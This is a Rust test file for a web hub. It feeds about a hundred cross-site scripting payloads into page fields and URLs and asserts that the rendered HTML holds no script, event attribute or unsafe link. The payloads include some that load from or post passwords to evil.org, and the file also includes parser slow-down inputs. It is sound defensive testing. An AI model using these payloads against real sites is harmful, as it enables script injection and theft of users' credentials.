//! What strangers may write never becomes more than text and formatting: the parsed page holds no script, no event
//! attribute, and no address that runs anything.

use axum::body::Body;
use http::{Request, StatusCode, header};
use scraper::Html;
use scraper::node::Node;
use serde_json::{Value, json};

use super::open;
use crate::testing::TestHub;

/// Ways in that pages of others have left open.
#[rustfmt::skip]
const PAYLOADS: [&str; 102] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.org/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    r#"<img src="javascript:alert(1)">"#,
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    r#"<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>"#,
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    r#"<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x"/></svg>"#,
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    r#"<math href="javascript:alert(1)">x</math>"#,
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    r#"<iframe src="javascript:alert(1)"></iframe>"#,
    r#"<iframe srcdoc="<script>alert(1)</script>"></iframe>"#,
    r#"<object data="javascript:alert(1)"></object>"#,
    r#"<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">"#,
    r#"<a href="javascript:alert(1)">x</a>"#,
    r#"<a href="JaVaScRiPt:alert(1)">x</a>"#,
    r#"<a href=" javascript:alert(1)">x</a>"#,
    "<a href=\"java\tscript:alert(1)\">x</a>",
    r#"<a href="java&#x0A;script:alert(1)">x</a>"#,
    r#"<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>"#,
    r#"<a href="&#x01;javascript:alert(1)">x</a>"#,
    r#"<a href="javascript&colon;alert(1)">x</a>"#,
    r#"<a href="vbscript:msgbox(1)">x</a>"#,
    r#"<a href="data:text/html,<script>alert(1)</script>">x</a>"#,
    r#"<a href="//evil.org/x">x</a>"#,
    r#"<a href="\\evil.org\x">x</a>"#,
    r#"<a href="https://a.org" onclick="alert(1)" onmouseover=alert(1)>x</a>"#,
    r#"<a href="https://a.org" style="position:fixed;inset:0">x</a>"#,
    r#"<a href="https://a.org" target="_blank" rel="opener">x</a>"#,
    r#"<a ping="https://evil.org" href="https://a.org">x</a>"#,
    r#"<base href="https://evil.org/">"#,
    r#"<link rel=stylesheet href="https://evil.org/x.css">"#,
    r#"<link rel="import" href="https://evil.org/x.html">"#,
    "<style>*{background:url(https://evil.org/x)}</style>",
    "<style>@import 'https://evil.org/x.css';</style>",
    r#"<meta http-equiv="refresh" content="0;url=javascript:alert(1)">"#,
    r#"<form action="https://evil.org"><input name=password><button>ok</button></form>"#,
    r#"<button formaction="javascript:alert(1)">x</button>"#,
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)></textarea><script>alert(1)</script>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<html onmouseover=alert(1)>",
    r#"<div onpointerenter=alert(1) style="width:expression(alert(1))">x</div>"#,
    r#"<div style="background:url(javascript:alert(1))">x</div>"#,
    r#"<table background="javascript:alert(1)"><tr><td onclick=alert(1)>x</td></tr></table>"#,
    r#"<p id="x" class="y" onclick=alert(1)>x</p>"#,
    "<isindex type=image src=1 onerror=alert(1)>",
    r#"<noscript><p title="</noscript><img src=x onerror=alert(1)>">"#,
    "<template><script>alert(1)</script></template>",
    "<title><img src=x onerror=alert(1)></title>",
    r#"<xmp><p title="</xmp><svg/onload=alert(1)>">"#,
    "<plaintext><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[><script>alert(1)</script>]]>",
    r#"<?xml-stylesheet href="javascript:alert(1)"?>"#,
    "<listing>&lt;img onerror=alert(1) src=x&gt;</listing>",
    "<a href=javascript:alert(1)//https://a.org>x</a>",
    "<img/src=`x`onerror=alert(1)>",
    r#"<img src="x"onerror="alert(1)">"#,
    "<x onclick=alert(1)>x</x>",
    r#"<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>"#,
    "</p></article></main></body></html><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</code></pre><script>alert(1)</script>",
    r#""><script>alert(1)</script>"#,
    "'><img src=x onerror=alert(1)>",
    "'-alert(1)-'",
    r"\'-alert(1)//",
    "');alert(1);('",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "{{ 7 * 7 }}${7*7}<%= 7 * 7 %>",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    r#"[x](JAVASCRIPT:alert(1) "title\" onmouseover=alert(1)")"#,
    "[x](java%0ascript:alert(1))",
    "[x]( &#x6a;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))",
    r#"![x" onerror="alert(1)](https://a.org/x.png)"#,
    r#"![x](https://a.org/x.png"onerror="alert(1))"#,
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "```html\"><script>alert(1)</script>\ncode\n```",
    "```\n</code></pre><script>alert(1)</script>\n```",
    r#"# <script>alert(1)</script> " onmouseover=alert(1) x=""#,
    "- [x] <img src=x onerror=alert(1)>",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
    "x[^1]\n\n[^1]: <script>alert(1)</script>",
    "[^\"onmouseover=alert(1)]\n\n[^\"onmouseover=alert(1)]: x",
    "    <script>alert(1)</script>",
    "<details><summary onclick=alert(1)><script>alert(1)</script></summary></details>",
];

/// Every element that a page of ours may hold.
#[rustfmt::skip]
const ELEMENTS: [&str; 58] = [
    "html", "head", "meta", "title", "style", "body", "header", "main", "article", "aside", "section", "time", "a", "abbr",
    "b", "blockquote", "br", "caption", "cite", "code", "dd", "del", "details", "div", "dl", "dt", "em", "h1", "h2", "h3",
    "h4", "h5", "h6", "hr", "i", "ins", "kbd", "li", "mark", "ol", "p", "pre", "q", "s", "samp", "small", "span", "strong",
    "sub", "summary", "sup", "table", "tbody", "td", "tfoot", "th", "thead", "tr",
];

/// Those that only READMEs hold.
const LISTS: [&str; 2] = ["ul", "var"];

/// Every attribute that a page of ours may hold.
#[rustfmt::skip]
const ATTRIBUTES: [&str; 11] = [
    "lang", "charset", "name", "content", "class", "id", "href", "title", "rel", "open", "datetime",
];

/// Fails when `html`, parsed as a browser does, holds anything that could run or load.
fn assert_harmless(html: &str, payload: &str) {
    let page = Html::parse_document(html);
    for element in page.tree.values().filter_map(Node::as_element) {
        let name = element.name();
        assert!(ELEMENTS.contains(&name) || LISTS.contains(&name), "<{name}> from {payload:?}");
        for (attribute, value) in element.attrs() {
            assert!(ATTRIBUTES.contains(&attribute), "{attribute}={value:?} from {payload:?}");
            if attribute == "href" {
                let is_known = ["https://", "http://", "mailto:", "ftp://", "#readme-", "/"]
                    .iter()
                    .any(|start| value.starts_with(start));
                assert!(is_known && !value.starts_with("//"), "href={value:?} from {payload:?}");
            }
        }
    }
    let styles = page.tree.values().filter_map(Node::as_element).filter(|e| e.name() == "style");
    assert_eq!(styles.count(), 1, "{payload:?}");
}

/// An endpoint that says `payload` wherever an owner may write.
fn draft(payload: &str) -> Value {
    let short: String = payload.chars().take(50).collect();
    let config = json!({
        "url": payload, "endpoint": payload, "signaling_server": payload, payload: payload, "nested": {payload: [payload]},
    });
    json!({
        "name": payload.chars().take(100).collect::<String>(), "slug": "page", "type": "model",
        "description": payload, "readme": payload,
        "connect": [{"type": short, "description": payload, "config": config}],
        "policies": [{"type": short, "description": payload, "config": config}],
    })
}

#[tokio::test]
async fn hostile_text_anywhere_in_an_endpoint_stays_text() {
    let hub = TestHub::start().await;
    let ada = hub.register("ada").await;
    for payload in PAYLOADS {
        let mut draft = draft(payload);
        // An absolute address must lie on the owner's domain, so that such a payload is refused at this one place.
        if payload.trim_start().split_once("://").is_some_and(|(scheme, _)| !scheme.contains('/')) {
            draft["connect"][0]["config"]["url"] = "x".into();
        }
        hub.publish(&ada.access, draft).await;
        let page = open(&hub, "/ada/page", "").await;
        assert_eq!(page.status, StatusCode::OK, "{payload:?}");
        assert_harmless(&page.html, payload);
        hub.delete("/api/v1/endpoints/slug/page", &ada.access).await;
    }
}

#[tokio::test]
async fn hostile_texts_together_do_not_help_each_other() {
    let hub = TestHub::start().await;
    let ada = hub.register("ada").await;
    for readme in [PAYLOADS.concat(), PAYLOADS.join("\n"), PAYLOADS.join("\n\n")] {
        hub.publish(&ada.access, json!({"name": "Page", "type": "model", "readme": readme})).await;
        assert_harmless(&open(&hub, "/ada/page", "").await.html, "all of them");
        hub.delete("/api/v1/endpoints/slug/page", &ada.access).await;
    }
}

#[tokio::test]
async fn a_hostile_address_is_shown_as_text_where_nothing_is() {
    let hub = TestHub::start().await;
    for payload in PAYLOADS {
        let escaped = payload.bytes().map(|byte| format!("%{byte:02X}"));
        let written = escaped.collect::<Vec<_>>().concat();
        let page = open(&hub, &format!("/{written}/{written}"), "").await;
        assert_eq!(page.status, StatusCode::NOT_FOUND, "{payload:?}");
        assert_harmless(&page.html, payload);
    }
}

#[tokio::test]
async fn a_readme_made_to_take_long_costs_a_page_its_formatting_and_no_more() {
    let hub = TestHub::start().await;
    let ada = hub.register("ada").await;
    let nested = "[".repeat(24_000) + &"](".repeat(12_000);
    let emphasis = "*a_".repeat(16_000);
    let code = format!("```ruby\n{}\n```", "%q(".repeat(12_000));
    let tables = "|a".repeat(8_000) + "\n" + &"|-".repeat(8_000);
    for readme in [nested, emphasis, code, tables, ">".repeat(49_000), "<div>".repeat(9_900)] {
        let draft = json!({"name": "Page", "type": "model", "readme": readme});
        hub.publish(&ada.access, draft).await;
        let started = std::time::Instant::now();
        let page = open(&hub, "/ada/page", "").await;
        assert_eq!(page.status, StatusCode::OK);
        let elapsed = started.elapsed();
        assert!(elapsed < std::time::Duration::from_secs(10), "{elapsed:?}: {}", &readme[..20]);
        hub.delete("/api/v1/endpoints/slug/page", &ada.access).await;
    }
}

#[tokio::test]
async fn a_hostile_accept_header_asks_for_json() {
    let hub = TestHub::start().await;
    let request = Request::get("/a/b").header(header::ACCEPT, "text/html<script>");
    let answer = hub.send(request.body(Body::empty()).unwrap()).await;
    assert_eq!(answer.headers[header::CONTENT_TYPE], "application/json");
}
